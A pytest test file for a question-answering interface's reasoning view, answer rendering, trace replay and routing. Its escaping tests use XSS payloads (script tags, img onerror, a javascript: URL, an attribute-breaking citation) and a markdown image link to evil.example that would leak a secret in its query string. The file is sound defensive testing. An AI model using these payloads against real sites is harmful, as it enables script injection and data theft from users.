"""The reasoning view, the answer message and traces, from events alone (no browser, no model)."""

from __future__ import annotations

import re

import pytest

from pipeline.events import EventKind, Status, Tracer
from pipeline.routing import choose_method
from ui.answer import answer_message
from ui.traces import load_trace, markdown_report, save_trace
from ui.view import RunView, md_safe

EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def passage(n, text="Some text.", **extra):
    return {"number": n, "id": f"p{n}", "title": f"Doc {n}", "text": text, "source": "notes.txt", **extra}


def chain_run():
    tracer = Tracer("ircot", "run1")
    query = {"query": "What is the capital?"}
    events = [tracer.event(EventKind.RETRIEVE, "Retrieve: q", id="r1", status=Status.RUNNING, payload=query),
              tracer.event(EventKind.RETRIEVE, "Retrieve: q", id="r1", payload={**query, "passages": [passage(1)]})]
    parent = "r1"
    for step in (1, 2):
        events.append(tracer.event(EventKind.HOP, f"Step {step}", id=f"h{step}", parent_id=parent,
                                   payload={"step": step, "sentence": f"Fact {step} [1].", "query": f"Fact {step}",
                                            "passages": [passage(step + 1)]}, llm_calls=1, prompt_tokens=10,
                                   completion_tokens=5))
        parent = f"h{step}"
    events.append(tracer.event(EventKind.ANSWER_TOKEN, "Answer", id="a1", parent_id=parent, status=Status.RUNNING,
                               payload={"text": "Paris "}))
    events.append(tracer.event(EventKind.ANSWER, "Answer", id="a1", parent_id=parent,
                               payload={"answer": "Paris [1] and [9].", "citations": [1],
                                        "passages": [passage(1, "Paris is the capital.")]}))
    return events


def test_text_from_passages_titles_and_answers_is_escaped():
    tracer = Tracer("oner")
    view = RunView(header=EVIL)
    view.add(tracer.event(EventKind.RETRIEVE, EVIL, id="r1", payload={"query": EVIL, "passages": [
        {"number": 1, "title": EVIL, "text": EVIL, "url": "javascript:alert(3)"}]}))
    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", payload={
        "answer": EVIL + " [1]", "citations": [1], "passages": [{"number": 1, "title": EVIL, "text": EVIL}]}))
    for html in (view.html(), answer_message(view, "run")):
        assert "<script>" not in html and "<img" not in html and "&lt;script&gt;" in html
        assert "href=" not in html  # urls are shown, never made into links


def test_replayed_traces_cannot_inject_markup_through_titles_or_numbers():
    tracer = Tracer("oner")
    view = RunView()
    view.add(tracer.event(EventKind.WARNING, EVIL, payload={"message": "something else"}))
    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", payload={
        "answer": "See [1].", "citations": ["1\"><img src=x onerror=alert(1)>", 1],
        "passages": [{"number": "<b>1</b>", "title": "t", "text": "x"}, passage(1)]}))
    page, message = view.html(), answer_message(view, "run")
    assert "&lt;script&gt;" in page  # the warning's title, shown as text
    for html in (page, message):
        assert "<img" not in html and "<script" not in html and "<b>" not in html
    assert message.count('class="cite"') == 1  # only the real passage number became a button


def test_markdown_in_model_and_passage_text_is_shown_literally():
    sneaky = "![x](https://evil.example/?q=secret) [link](https://evil.example) *bold* `code` # head"
    assert "![" not in md_safe(sneaky) and "](" not in md_safe(sneaky) and "*bold*" not in md_safe(sneaky)
    assert md_safe("<b>'\"&") == "&lt;b&gt;&#39;&quot;&amp;"
    tracer = Tracer("oner")
    view = RunView()
    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", payload={
        "answer": sneaky + " [1]", "citations": [1], "passages": [passage(1, sneaky)]}))
    message = answer_message(view, "r")
    assert "](" not in message and 'data-cite="r-1"' in message


def test_updates_of_a_step_fold_into_one_node_and_chains_stay_flat():
    view = RunView()
    for event in chain_run():
        view.add(event)
    html = view.html()
    assert html.count('data-step="r1"') == 1 and html.count('data-step="h2"') == 1
    # retrieve, both hops and the answer are siblings of one list: a chain, not a staircase
    assert re.search(r'data-step="r1".*</li><li[^>]*data-step="h1".*</li><li[^>]*data-step="h2".*</li>'
                     r'<li[^>]*data-step="a1"', html)
    assert "Step 1: Fact 1 [1]." in html and "query: Fact 1" in html and "1 call · 10+5 tok" in html
    assert view.totals()[:2] == (2, 30) and view.finished and view.answer_text == "Paris [1] and [9]."


def test_tree_nodes_nest_and_show_state_and_verdict():
    tracer = Tracer("toc")
    view = RunView()
    node = {"node": {"question": "Which year?", "answer": "2024", "depth": 1}}
    view.add(tracer.event(EventKind.EXPAND, "Root", id="n1", payload={"node": {"question": "Q?"}, "state": "root"}))
    view.add(tracer.event(EventKind.EXPAND, "Which year?", id="n2", parent_id="n1", status=Status.RUNNING,
                          payload={**node, "state": "candidate"}))
    view.add(tracer.event(EventKind.VERIFY, "Prune", parent_id="n2", payload={
        "keep": False, "score": 0.2, "verifier": "evidence", "evidence": {"p_true": 0.1, "passage": passage(3)}}))
    view.add(tracer.event(EventKind.EXPAND, "Which year?", id="n2", parent_id="n1",
                          payload={**node, "state": "pruned", "reason": "low score", "score": 0.2}))
    html = view.html()
    assert re.search(r'data-step="n1">.*<ul class="rv-list"><li class="[^"]*state-pruned[^"]*" data-step="n2"', html)
    assert "Verifier: prune, score 0.20" in html and "p_true" in html and "→ 2024" in html
    assert not view.finished


def test_a_stopped_run_shows_interrupted_steps_and_the_notice():
    tracer = Tracer("oner")
    view = RunView()
    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", status=Status.RUNNING))
    view.add(tracer.event(EventKind.ANSWER_TOKEN, "Answer", id="a1", status=Status.RUNNING, payload={"text": "Par"}))
    view.add(tracer.event(EventKind.WARNING, "Stopped", payload={"message": "The run was stopped."}))
    assert "Working" not in answer_message(view, "r") and "Par" in answer_message(view, "r")
    assert "The run was stopped." in answer_message(view, "r")
    view.close()
    assert "status-interrupted" in view.html() and 'data-state="done"' in view.html()
    empty = RunView()
    empty.close()
    assert "No answer." in answer_message(empty, "r")


def test_a_replayed_stopped_run_is_drawn_as_over(tmp_path):
    tracer = Tracer("oner")
    view = RunView()
    view.add(tracer.event(EventKind.RETRIEVE, "Retrieve", id="r1", status=Status.RUNNING, payload={"query": "q"}))
    view.add(tracer.event(EventKind.WARNING, "Stopped", payload={"message": "The run was stopped."}))
    jsonl, _ = save_trace(view, "q", tmp_path)
    replayed, _ = load_trace(jsonl)
    assert 'data-state="done"' in replayed.html() and "status-interrupted" in replayed.html()
    assert "rv-spin" not in replayed.html()


def test_answer_message_makes_existing_citations_open_their_source():
    view = RunView()
    for event in chain_run():
        view.add(event)
    message = answer_message(view, "run1")
    assert 'class="cite"' in message and 'data-cite="run1-1"' in message
    assert "&#91;9&#93;" in message and 'data-cite="run1-9"' not in message  # no such passage: left as text
    assert message.count('<details class="source"') == 1 and "Paris is the capital." in message


def test_trace_round_trip_and_report(tmp_path):
    view = RunView("Auto picked IRCoT.")
    for event in chain_run():
        view.add(event)
    jsonl, report = save_trace(view, "What is the capital?", tmp_path)
    replayed, question = load_trace(jsonl)
    assert question == "What is the capital?"
    assert [e.model_dump() for e in replayed.events] == [e.model_dump() for e in view.events]
    assert replayed.answer_text == "Paris [1] and [9]."
    text = report.read_text()
    assert text.startswith("# What is the capital?") and "**hop** Fact 1 [1]." in text
    assert "## Sources" in text and "[1] Doc 1 — notes.txt" in text
    assert markdown_report(view, "Q").count("**hop**") == 2


def test_a_file_that_is_not_a_trace_is_refused(tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"not": "an event"}\n')
    with pytest.raises(ValueError, match="line 1"):
        load_trace(bad)
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    with pytest.raises(ValueError, match="no step events"):
        load_trace(empty)


@pytest.mark.parametrize("question, method", [
    ("Who won the Tour de France?", "toc"),
    ("Which board game was published more recently, Pirate's Cove or Catan?", "ircot"),
    ("Where was the director of the film Jaws born?", "ircot"),
    ("Who is the mother of the director of film Polish-Russian War?", "ircot"),
    ("Are Tokyo and Osaka in the same country?", "ircot"),
    ("What did the 2019 annual report say about emissions in Norway?", "oner"),
])
def test_auto_routing(question, method):
    choice = choose_method(question)
    assert choice.method == method and choice.reason


def test_auto_routing_respects_available_methods():
    assert choose_method("Who won the Tour de France?", {"oner", "nor"}).method == "oner"


@pytest.mark.parametrize("question, joined", [
    ("And where was he born?", True),
    ("When was it released?", True),
    ("What about the sequel?", True),
    ("Where was Robert Zemeckis born?", False),
    ("Who won the Tour de France?", False),
])
def test_follow_ups_are_joined_with_the_previous_question(question, joined):
    from pipeline.conversation import with_context

    previous = ["Who directed the film Back to the Future?"]
    run, note = with_context(question, previous)
    assert (run == f"{previous[0]} {question}") is joined and (note is not None) is joined
    assert with_context(question, []) == (question, None)
